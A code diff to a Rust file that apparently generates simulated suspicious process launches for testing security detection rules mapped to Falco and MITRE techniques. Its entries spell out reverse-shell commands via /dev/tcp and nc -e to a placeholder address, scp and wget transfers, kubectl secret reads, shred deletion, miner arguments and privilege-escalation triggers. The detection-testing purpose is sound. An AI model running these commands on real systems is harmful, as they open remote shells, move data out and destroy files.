@@ -1,7 +1,7 @@
 //! Programs that give themselves away by name or arguments.
 
-use super::secrets::ONLY_NAMED;
-use crate::generate::action::{Action, Need, PART, Part, Place, Role, Start};
+use super::secrets::{ONLY_NAMED, read_own};
+use crate::generate::action::{ACTION, Action, Need, PROCESS, Place, Process, Setup, Start};
 
 pub(super) const ACTIONS: &[Action] = &[
     Action {
@@ -10,9 +10,9 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Run shell untrusted"],
         falco: &["Run shell untrusted", "Web Server Spawned Shell"],
         mitre: "T1190",
-        cast: &[
-            Part { program: "nginx", ..PART },
-            Part { program: "sh", args: &["-c", "id; : <token>"], ..PART },
+        processes: &[
+            Process { program: "nginx", ..PROCESS },
+            Process { program: "sh", args: &["-c", "id; : <token>"], ..PROCESS },
         ],
         ..ONLY_NAMED
     },
@@ -20,9 +20,44 @@ pub(super) const ACTIONS: &[Action] = &[
         name: "program-below-server",
         does: "has a web server start whoami",
         rules: &["Web server started unexpected program"],
-        falco: &[],
+        falco: &["Web Server Spawned Suspicious Child Process"],
         mitre: "T1505.003",
-        cast: &[Part { program: "nginx", ..PART }, Part { program: "whoami", ..PART }],
+        processes: &[
+            Process { program: "nginx", ..PROCESS },
+            Process { program: "whoami", ..PROCESS },
+        ],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "reverse-shell-below-server",
+        does: "has a web server start a shell with a script that connects to /dev/tcp",
+        rules: &["Run shell untrusted"],
+        falco: &["Reverse Shell from Web Server", "Web Server Spawned Shell"],
+        mitre: "T1505.003",
+        processes: &[
+            Process { program: "nginx", ..PROCESS },
+            Process {
+                program: "bash",
+                args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
+                ..PROCESS
+            },
+        ],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "network-tool-below-npm",
+        does: "has npm start nmap in a container, as the scripts of a package may",
+        rules: &["Launch Suspicious Network Tool in Container"],
+        falco: &[
+            "Network Tool Executed During NPM Package Install",
+            "Launch Suspicious Network Tool in Container",
+        ],
+        mitre: "T1195.002",
+        place: Place::Container,
+        processes: &[
+            Process { program: "npm", ..PROCESS },
+            Process { program: "nmap", args: &["198.51.100.7", "<token>"], ..PROCESS },
+        ],
         ..ONLY_NAMED
     },
     Action {
@@ -32,8 +67,20 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &[],
         mitre: "T1048",
         place: Place::ContainerEntry,
-        cast: &[Part { program: "tar", args: &["cf", "-", "/<token>"], ..PART }],
+        processes: &[Process { program: "tar", args: &["cf", "-", "/<token>"], ..PROCESS }],
         ..ONLY_NAMED
+    },
+    Action {
+        name: "read-for-kubectl-copy",
+        does: "has the container runtime start tar, which reads a file of its own",
+        harmless: "the file is empty and in a folder of its own",
+        falco: &["Exfiltrating Artifacts via Kubernetes Control Plane"],
+        mitre: "T1048",
+        event: "openat",
+        place: Place::ContainerEntry,
+        processes: &[Process { program: "tar", ..PROCESS }],
+        act: |doer| read_own(doer, "data"),
+        ..ACTION
     },
     Action {
         name: "program-below-database",
@@ -41,7 +88,7 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["DB program spawned process"],
         falco: &["DB program spawned process"],
         mitre: "T1190",
-        cast: &[Part { program: "postgres", ..PART }, PART],
+        processes: &[Process { program: "postgres", ..PROCESS }, PROCESS],
         ..ONLY_NAMED
     },
     Action {
@@ -51,10 +98,10 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Netcat Remote Code Execution in Container"],
         mitre: "T1059",
         place: Place::Container,
-        cast: &[Part {
+        processes: &[Process {
             program: "nc",
             args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -62,13 +109,16 @@ pub(super) const ACTIONS: &[Action] = &[
         name: "netcat-on-host",
         does: "runs nc -e on the host",
         rules: &["Netcat/Socat Remote Code Execution on Host"],
-        falco: &["Netcat/Socat Remote Code Execution on Host"],
+        falco: &[
+            "Netcat/Socat Remote Code Execution on Host",
+            "Launch Suspicious Network Tool on Host",
+        ],
         needs: &[Need::Host],
         mitre: "T1059",
-        cast: &[Part {
+        processes: &[Process {
             program: "nc",
             args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -79,7 +129,11 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Suspicious Network Tool in Container"],
         mitre: "T1046",
         place: Place::Container,
-        cast: &[Part { program: "nmap", args: &["-sS", "198.51.100.0/24", "<token>"], ..PART }],
+        processes: &[Process {
+            program: "nmap",
+            args: &["-sS", "198.51.100.0/24", "<token>"],
+            ..PROCESS
+        }],
         ..ONLY_NAMED
     },
     Action {
@@ -89,10 +143,10 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &[],
         mitre: "T1059.004",
         place: Place::Container,
-        cast: &[Part {
+        processes: &[Process {
             program: "bash",
             args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -102,10 +156,10 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Reverse shell on host"],
         needs: &[Need::Host],
         mitre: "T1059.004",
-        cast: &[Part {
+        processes: &[Process {
             program: "bash",
             args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -114,10 +168,10 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs a shell with a script that decodes another and runs that",
         rules: &["Encoded script run"],
         mitre: "T1027",
-        cast: &[Part {
+        processes: &[Process {
             program: "sh",
             args: &["-c", "echo aWQK | base64 -d | sh # <token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -129,7 +183,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &[],
         mitre: "T1611",
         place: Place::Container,
-        cast: &[Part { program: "debugfs", ..PART }],
+        processes: &[Process { program: "debugfs", ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -137,7 +191,7 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs pkill with what our daemons' names begin with",
         rules: &["Lanner stopped by command"],
         mitre: "T1562.001",
-        cast: &[Part { program: "pkill", args: &["lanner-<token>"], ..PART }],
+        processes: &[Process { program: "pkill", args: &["lanner-<token>"], ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -145,7 +199,7 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs a program called apt from where no package puts one",
         rules: &["Program poses as a trusted one"],
         mitre: "T1036.005",
-        cast: &[Part { program: "apt", ..PART }],
+        processes: &[Process { program: "apt", ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -155,7 +209,11 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Remote File Copy Tools in Container"],
         mitre: "T1020",
         place: Place::Container,
-        cast: &[Part { program: "scp", args: &["-r", "/srv", "198.51.100.7:/<token>"], ..PART }],
+        processes: &[Process {
+            program: "scp",
+            args: &["-r", "/srv", "198.51.100.7:/<token>"],
+            ..PROCESS
+        }],
         ..ONLY_NAMED
     },
     Action {
@@ -164,7 +222,11 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Ingress Remote File Copy Tools in Container"],
         mitre: "T1105",
         place: Place::Container,
-        cast: &[Part { program: "wget", args: &["http://198.51.100.7/<token>"], ..PART }],
+        processes: &[Process {
+            program: "wget",
+            args: &["http://198.51.100.7/<token>"],
+            ..PROCESS
+        }],
         ..ONLY_NAMED
     },
     Action {
@@ -174,7 +236,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Package Management Process in Container"],
         mitre: "T1505",
         place: Place::Container,
-        cast: &[Part { program: "apk", args: &["add", "<token>"], ..PART }],
+        processes: &[Process { program: "apk", args: &["add", "<token>"], ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -184,7 +246,11 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Kubernetes Client Tool Launched in Container"],
         mitre: "T1610",
         place: Place::Container,
-        cast: &[Part { program: "kubectl", args: &["get", "secrets", "<token>"], ..PART }],
+        processes: &[Process {
+            program: "kubectl",
+            args: &["get", "secrets", "<token>"],
+            ..PROCESS
+        }],
         ..ONLY_NAMED
     },
     Action {
@@ -193,7 +259,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Decoding Payload in Container"],
         mitre: "T1132",
         place: Place::Container,
-        cast: &[Part { program: "base64", args: &["-d", "<token>"], ..PART }],
+        processes: &[Process { program: "base64", args: &["-d", "<token>"], ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -202,10 +268,10 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Crypto miner started"],
         falco: &["Detect crypto miners using the Stratum protocol"],
         mitre: "T1496",
-        cast: &[Part {
+        processes: &[Process {
             program: "kworker",
             args: &["-o", "stratum+tcp://pool.invalid:3333", "-u", "<token>"],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -215,7 +281,7 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Crypto miner started"],
         falco: &["Known Cryptominer Process Executed"],
         mitre: "T1496",
-        cast: &[Part { program: "xmrig", ..PART }],
+        processes: &[Process { program: "xmrig", ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -224,7 +290,7 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Remove Bulk Data from Disk"],
         falco: &["Remove Bulk Data from Disk"],
         mitre: "T1485",
-        cast: &[Part { program: "shred", args: &["-u", "/<token>"], ..PART }],
+        processes: &[Process { program: "shred", args: &["-u", "/<token>"], ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -232,9 +298,9 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs whoami at a terminal",
         falco: &["Basic Interactive Reconnaissance"],
         mitre: "T1033",
-        cast: &[
-            Part { program: "intruder", role: Role::OpenTerminal, ..PART },
-            Part { program: "whoami", start: Start::Exec, ..PART },
+        processes: &[
+            Process { program: "intruder", setup: Setup::OpenTerminal, ..PROCESS },
+            Process { program: "whoami", start: Start::Exec, ..PROCESS },
         ],
         ..ONLY_NAMED
     },
@@ -245,7 +311,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["System user interactive"],
         mitre: "T1059",
         needs: &[Need::Root, Need::Nobody],
-        cast: &[Part { program: "sshd", role: Role::BecomeNobody, ..PART }, PART],
+        processes: &[Process { program: "sshd", setup: Setup::BecomeNobody, ..PROCESS }, PROCESS],
         ..ONLY_NAMED
     },
     Action {
@@ -255,7 +321,7 @@ pub(super) const ACTIONS: &[Action] = &[
         needs: &[Need::OtherLogin],
         falco: &["Sudo Potential Privilege Escalation"],
         mitre: "T1548.003",
-        cast: &[Part { program: "sudoedit", args: &["-s", "<token>", "\\"], ..PART }],
+        processes: &[Process { program: "sudoedit", args: &["-s", "<token>", "\\"], ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -265,7 +331,7 @@ pub(super) const ACTIONS: &[Action] = &[
         needs: &[Need::OtherLogin],
         falco: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
         mitre: "T1548",
-        cast: &[Part { program: "pkexec", marked: false, ..PART }],
+        processes: &[Process { program: "pkexec", marked: false, ..PROCESS }],
         ..ONLY_NAMED
     },
     Action {
@@ -275,9 +341,9 @@ pub(super) const ACTIONS: &[Action] = &[
         needs: &[Need::OtherLogin],
         falco: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
         mitre: "T1574.006",
-        cast: &[Part {
+        processes: &[Process {
             env: &[("GLIBC_TUNABLES", "glibc.malloc.mxfast=glibc.malloc.mxfast=1")],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
@@ -286,10 +352,10 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs curl with HTTP_PROXY in its environment",
         falco: &["Program run with disallowed http proxy env"],
         mitre: "T1204",
-        cast: &[Part {
+        processes: &[Process {
             program: "curl",
             env: &[("HTTP_PROXY", "http://198.51.100.7:3128")],
-            ..PART
+            ..PROCESS
         }],
         ..ONLY_NAMED
     },
